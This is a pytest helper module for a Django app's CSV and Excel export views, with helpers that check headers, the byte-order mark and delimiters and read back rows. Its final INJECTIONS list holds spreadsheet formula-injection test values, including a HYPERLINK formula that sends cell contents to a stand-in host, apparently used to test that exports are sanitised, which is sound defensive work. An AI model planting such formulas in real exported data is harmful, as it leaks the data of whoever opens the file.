import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook


def content(response):
    """The body; a streamed response the test client gave is closed once read (by the client)."""
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    """The cells of a CSV export, header first, after checking its shape (BOM, `;`)."""
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = content(response)
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def xlsx_rows(response):
    """The cell values of an Excel export's only sheet, header first."""
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(io.BytesIO(content(response)), read_only=True)
    (sheet,) = workbook.worksheets
    table = [list(row) for row in sheet.iter_rows(values_only=True)]
    width = len(table[0])
    return [row + [None] * (width - len(row)) for row in table]


def fetch(client, url_name, fmt, query="", **kwargs):
    """The response of an export (`fmt` "csv" or "xlsx") with the page's query string `query`."""
    url = reverse(url_name, kwargs={**kwargs, "fmt": fmt})
    return client.get(url + (f"?{query}" if query else ""))


@pytest.fixture
def export(client_for):
    """`export(user, url_name, fmt, query="", **kwargs)`: the response of an export as `user`."""

    def get(user, url_name, fmt, query="", **kwargs):
        return fetch(client_for(user), url_name, fmt, query, **kwargs)

    return get


def rows(response, fmt):
    return csv_rows(response) if fmt == "csv" else xlsx_rows(response)


def column(table, header):
    """The values of one column, by its header, without the header row."""
    index = table[0].index(header)
    return [row[index] for row in table[1:]]


INJECTIONS = ['=HYPERLINK("http://pirate.example/?x="&A1;"clic")', "+33 1 23", "-2+3", "@SUM(A1)"]
